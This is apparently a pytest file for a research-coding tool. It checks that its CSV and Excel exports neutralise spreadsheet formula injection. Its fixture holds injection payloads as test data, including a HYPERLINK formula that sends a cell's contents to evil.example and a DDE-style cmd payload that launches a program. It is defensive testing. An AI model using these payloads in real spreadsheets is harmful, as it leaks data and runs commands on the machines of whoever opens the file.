"""No export hands a spreadsheet a live formula: text a user typed (or imported) that
starts with = + - @, a tab or a carriage return is written as text in every CSV (a
leading ', as OWASP recommends) and in every Excel sheet."""

from __future__ import annotations

import csv
import io

import pytest
from openpyxl import load_workbook

from coder.core.model import Code, DocumentRecord, Section
from coder.formats import codebook_yaml
from coder.formats.csvsafe import FORMULA_STARTS, neutralise
from coder.services import codebooks, exports, themes
from coder.services.codes import create_code
from coder.services.coding import apply_code, set_coding_memo
from coder.services.importing import add_records

HOSTILE = {
    "title": '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "code": "@SUM(1+1)",
    "theme": "+cmd|' /C calc'!A0",
    "definition": "-2+3",
    "memo": "\t=1+1",
    "keyword": "\r=2+2",
}


@pytest.fixture
def hostile(sqlite_ws):
    ws = sqlite_ws
    record = DocumentRecord(
        sections=[Section(None, "Peer workers bridge the gap. Staff named the risks.")],
        title=HOSTILE["title"],
        authors=["Jane Doe"],
        year=2020,
    )
    _summary, (key,) = add_records(ws, [record], source="evil.ris")
    create_code(
        ws,
        Code(name=HOSTILE["code"], definition=HOSTILE["definition"], keywords=[HOSTILE["keyword"]]),
    )
    apply_code(ws, f"{key}:1", HOSTILE["code"])
    set_coding_memo(ws, f"{key}:1", HOSTILE["code"], HOSTILE["memo"])
    themes.create_theme(ws, HOSTILE["theme"], HOSTILE["definition"], codes=[HOSTILE["code"]])
    return ws


def cells(data: bytes | str) -> list[str]:
    text = data.decode("utf-8") if isinstance(data, bytes) else data
    return [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]


def assert_neutral(all_cells: list[str], expected: list[str]) -> None:
    live = [c for c in all_cells if c.startswith(FORMULA_STARTS)]
    assert live == [], live
    for value in expected:
        # coder may strip surrounding whitespace of what it stores
        assert any(("'" + value) in c or ("'" + value.strip()) in c for c in all_cells), value


def export(fn, ws, fmt: str) -> bytes:
    out = io.BytesIO()
    fn(ws, fmt, out)
    return out.getvalue()


def test_neutralise_only_touches_text_that_would_run():
    assert neutralise("=1+1") == "'=1+1"
    assert neutralise("a=1") == "a=1"
    assert neutralise(-3) == -3
    assert neutralise("") == ""


def test_codings_csv(hostile):
    got = cells(export(exports.export_codings, hostile, "csv"))
    assert_neutral(got, [HOSTILE["code"], HOSTILE["memo"], HOSTILE["theme"]])


def test_themes_csv(hostile):
    got = cells(export(exports.export_themes, hostile, "csv"))
    assert_neutral(got, [HOSTILE["theme"], HOSTILE["definition"], HOSTILE["code"]])


def test_audit_csv(hostile):
    got = cells(export(exports.export_audit, hostile, "csv"))
    # the target column carries code and theme names as typed
    assert_neutral(got, [HOSTILE["code"], HOSTILE["theme"]])


def test_codebook_csv(hostile):
    buffer = io.StringIO(newline="")
    codebook_yaml.codebook_to_csv(codebooks.current_codebook(hostile), buffer)
    got = cells(buffer.getvalue())
    assert_neutral(got, [HOSTILE["code"], HOSTILE["definition"], HOSTILE["keyword"]])


@pytest.mark.parametrize("fn", [exports.export_codings, exports.export_themes])
def test_xlsx_keeps_text(hostile, fn):
    book = load_workbook(io.BytesIO(export(fn, hostile, "xlsx")))
    seen = set()
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if isinstance(cell.value, str) and cell.value.startswith(FORMULA_STARTS):
                    assert cell.data_type == "s", (sheet.title, cell.coordinate, cell.value)
                    seen.add(cell.value)
    assert HOSTILE["code"] in seen


def test_rows_are_checked_in_bulk_and_written_cell_by_cell_when_one_may_be_a_formula() -> None:
    from coder.formats.csvsafe import writer

    for terminator in ("\n", "\r\n", "\r"):
        out = io.StringIO(newline="")
        w = writer(out, lineterminator=terminator)
        w.writerows([["plain", 1, "text, -not a start"], ["ok", 2, "fine"]])  # looks like one
        w.writerows([["a", 3, "b"], [None, -4, "x"]])  # clean, a negative number stays
        w.writerows([["ok", 5, "=1+1"], ["@x", 6, "a, =2"], ["\tz", 7, "+q"]])
        rows = list(csv.reader(io.StringIO(out.getvalue(), newline=""), lineterminator=terminator))
        assert rows == [
            ["plain", "1", "text, -not a start"],
            ["ok", "2", "fine"],
            ["a", "3", "b"],
            ["", "-4", "x"],
            ["ok", "5", "'=1+1"],
            ["'@x", "6", "a, =2"],
            ["'\tz", "7", "'+q"],
        ], terminator
